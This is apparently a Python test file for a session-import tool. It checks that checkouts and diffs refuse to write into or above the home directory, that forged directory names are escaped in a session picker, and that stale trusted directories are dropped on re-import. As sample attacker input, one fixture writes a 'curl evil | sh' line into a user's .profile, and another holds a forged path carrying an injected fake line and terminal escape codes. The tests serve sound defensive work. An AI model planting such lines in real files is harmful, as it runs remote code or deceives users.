"""Attacks on where an imported session's files are written: a session naming no
working directory (every import) works in the current one, so ``checkout`` and
a ``diff`` against the files now must refuse anywhere that holds the user's
whole home directory: ``/``, the home directory, and every directory above it
(``/home`` holds ``/home/me``: a checkout there writes among the user's files
as surely as one in ``~`` does)."""

from __future__ import annotations

from pathlib import Path

import pytest

from infai.agent import OnRestore, checkout, diff_at
from infai.checkpoints import Checkpoints
from infai.store import InvalidInput, Store


@pytest.fixture(autouse=True)
def checkpoints_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The test-wide config turns snapshots off; these tests are about them."""
    monkeypatch.setenv("INFAI_CONFIG", str(tmp_path / "no-such-config.toml"))


def _imported(store: Store, files: dict[str, str], scratch: Path) -> tuple[str, str]:
    """A session naming no working directory (as every import is) whose one
    snapshot holds ``files``: (session, event)."""
    for name, text in files.items():
        (scratch / name).parent.mkdir(parents=True, exist_ok=True)
        (scratch / name).write_text(text)
    cp = Checkpoints(store.objects, scratch, store.home, watch=False)
    snap = cp.snapshot()
    cp.close()
    sid = store.create_session(working_dir=None).id
    with store.open_writer(sid) as writer:
        event = writer.append(snap.record("turn start"), "system").id
    return sid, event


def test_checkout_and_diff_refuse_a_directory_above_home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Run from ``/home`` (the home directory's parent), a checkout of an
    imported session's snapshot holding ``me/.profile`` wrote into the user's home
    directory: only ``~`` itself and ``/`` were refused."""
    above = tmp_path / "homes"
    home = above / "me"
    home.mkdir(parents=True)
    (home / ".profile").write_text("the user's own\n")
    monkeypatch.setenv("HOME", str(home))
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    store = Store(tmp_path / "store")
    sid, event = _imported(store, {"me/.profile": "curl evil | sh\n"}, scratch)
    monkeypatch.chdir(above)
    for choice, dry_run in ((OnRestore(force=True), False), (OnRestore(), True)):
        with pytest.raises(InvalidInput, match="home directory"):
            checkout(store, sid, event, choice, dry_run=dry_run)
    with pytest.raises(InvalidInput, match="home directory"):
        diff_at(store, sid, event)
    assert (home / ".profile").read_text() == "the user's own\n"
    assert sorted(p.name for p in above.iterdir()) == ["me"]  # no journal, nothing else


def test_a_symlink_to_home_and_a_dotted_path_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The current directory reached through a symlink to home, or ``$HOME``
    itself spelt with ``..``, is still the home directory (held)."""
    home = tmp_path / "me"
    (home / "sub").mkdir(parents=True)
    link = tmp_path / "link"
    link.symlink_to(home)
    store = Store(tmp_path / "store")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    sid, event = _imported(store, {"x.txt": "x\n"}, scratch)
    monkeypatch.setenv("HOME", str(home / "sub" / ".."))
    for where in (link, home):
        monkeypatch.chdir(where)
        with pytest.raises(InvalidInput, match="home directory"):
            checkout(store, sid, event, OnRestore(force=True))
    assert not (home / "x.txt").exists()


def test_a_recorded_directory_holding_a_newline_is_one_line_in_the_tui_picker(
    tmp_path: Path,
) -> None:
    """The directory an imported file names is shown in the TUI's session picker
    (grouping, display only): its newline was kept (``inert`` keeps newlines), so
    a Pi file's ``cwd`` printed a line of its choosing among the sessions."""
    import json

    from infai.imports import commit, importer_for
    from infai.shells.tui.modals import Listed, session_label

    forged = "/src/proj\n0197aaaa-ffff  just now  9 ev /src/bank  \x1b]0;t\x07"
    header = {"type": "session", "version": 3, "id": "0197aaaa-0000-7000-8000-0000000000b2",
              "timestamp": "2026-03-01T10:00:00.000Z", "cwd": forged}  # fmt: skip
    prompt = {"type": "message", "id": "b0000001", "parentId": None,
              "timestamp": "2026-03-01T10:00:01.000Z",
              "message": {"role": "user", "content": "hi"}}  # fmt: skip
    path = tmp_path / "s.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in (header, prompt)))
    store = Store(tmp_path / "home")
    (foreign,) = importer_for("pi").load(path)
    commit(store, foreign)
    info = store.info(foreign.session_id)
    assert info.working_dir is None and info.extra["import"]["working_dir"] == forged
    shown = session_label(Listed(info, "hi", 1)).plain
    assert "\n" not in shown and "\x1b" not in shown and "\x07" not in shown
    assert shown.endswith("/src/proj\\n0197aaaa-ffff  just now  9 ev /src/bank  \\x1b]0;t\\x07")


def test_a_re_import_drops_any_directory_an_older_infai_trusted(tmp_path: Path) -> None:
    """An older infai made the file's ``cwd`` the session's working directory (and
    recorded no tool's directory in the import's mark). A re-import dropped it
    only while the file still named that same directory: a file naming another
    one now (its tool moved on, or its author changed it) left the old one in
    force, and a checkout kept writing there."""
    import json

    from infai.imports import commit, importer_for

    def pi_file(cwd: str, turns: int) -> Path:
        header = {"type": "session", "version": 3, "id": "0197aaaa-0000-7000-8000-0000000000c3",
                  "timestamp": "2026-03-01T10:00:00.000Z", "cwd": cwd}  # fmt: skip
        lines: list[dict[str, object]] = [header]
        for n in range(1, turns + 1):
            lines.append({"type": "message", "id": f"b{n:07d}",
                          "parentId": f"b{n - 1:07d}" if n > 1 else None,
                          "timestamp": f"2026-03-01T10:00:{n:02d}.000Z",
                          "message": {"role": "user", "content": f"p{n}"}})  # fmt: skip
        path = tmp_path / "s.jsonl"
        path.write_text("".join(json.dumps(line) + "\n" for line in lines))
        return path

    victim = str(tmp_path / "victim" / ".ssh")
    store = Store(tmp_path / "home")
    pi = importer_for("pi")
    (foreign,) = pi.load(pi_file(victim, 1))
    commit(store, foreign)
    sid = foreign.session_id

    def as_an_older_infai_left_it() -> None:
        """The file's directory as the session's own, none in the import's mark."""
        info = store.info(sid)
        mark = {k: v for k, v in info.extra["import"].items() if k != "working_dir"}
        store.restore_info(info.replace(working_dir=victim, extra={**info.extra, "import": mark}))

    for turns in (1, 2):  # unchanged, then grown
        as_an_older_infai_left_it()
        (again,) = pi.load(pi_file(str(tmp_path / "elsewhere"), turns))
        commit(store, again)
        assert store.info(sid).working_dir is None, turns
        assert any(victim in w and "dropped" in w for w in again.report.warnings)
